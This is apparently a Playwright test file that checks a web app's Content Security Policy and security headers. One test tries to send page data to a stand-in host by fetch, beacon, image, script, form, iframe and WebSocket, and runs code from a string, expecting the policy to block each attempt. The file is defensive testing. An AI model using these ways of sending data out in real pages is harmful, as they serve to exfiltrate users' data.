import { expect, test } from "./fixtures/app";

const ELSEWHERE = "https://elsewhere.example/";

test("the policy stands in the response and in the page", async ({ page }) => {
  const response = await page.goto("./");
  const header = response?.headers()["content-security-policy"] ?? "";
  const meta = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute("content");

  for (const policy of [header, meta ?? ""]) {
    expect(policy).toContain("default-src 'none'");
    expect(policy).toContain("connect-src 'self'");
    expect(policy).toContain("script-src 'self' 'wasm-unsafe-eval'");
    expect(policy).not.toContain("http");
  }
  expect(header).toContain("frame-ancestors 'none'");
  expect(response?.headers()["referrer-policy"]).toBe("no-referrer");
  expect(response?.headers()["x-content-type-options"]).toBe("nosniff");
});

test("the start page opens and asks nobody else for anything", async ({ page }) => {
  await page.goto("./");
  await expect(page.getByRole("heading").first()).toBeVisible();
  await expect(page.locator("input[type=file]").first()).toBeAttached();
  await page.waitForLoadState("networkidle");
});

test.describe("a page that tries to send data away", () => {
  test.use({
    expectedComplaints: [/Content Security Policy/, /Failed to load resource/],
    expectedRefusals: [/elsewhere\.example/],
  });

  test("is refused by the policy alone, on any way out", async ({ page }) => {
    const site = await page.goto("./");
    expect(site?.ok()).toBe(true);
    const refused = await page.evaluate(async (address) => {
      const blocked: string[] = [];
      document.addEventListener("securitypolicyviolation", (event) => blocked.push(event.effectiveDirective));
      await fetch(address, { method: "POST", body: "rows" }).catch(() => undefined);
      navigator.sendBeacon(address, "rows");
      new Image().src = `${address}?rows`;
      const script = document.createElement("script");
      script.src = address;
      document.head.append(script);
      const form = document.createElement("form");
      form.action = address;
      document.body.append(form);
      form.submit();
      const frame = document.createElement("iframe");
      frame.src = address;
      document.body.append(frame);
      try {
        new WebSocket(address.replace("https", "wss"));
      } catch {
        blocked.push("connect-src");
      }
      try {
        // The point of the test: code from a string must not run.
        // eslint-disable-next-line @typescript-eslint/no-implied-eval, @typescript-eslint/no-unsafe-call
        new Function("return 1")();
      } catch {
        blocked.push("eval");
      }
      await new Promise((done) => setTimeout(done, 200));
      return blocked;
    }, ELSEWHERE);

    expect(refused.filter((directive) => directive === "connect-src").length).toBeGreaterThanOrEqual(3);
    for (const directive of ["img-src", "script-src-elem", "form-action", "frame-src", "eval"]) {
      expect(refused).toContain(directive);
    }
  });
});
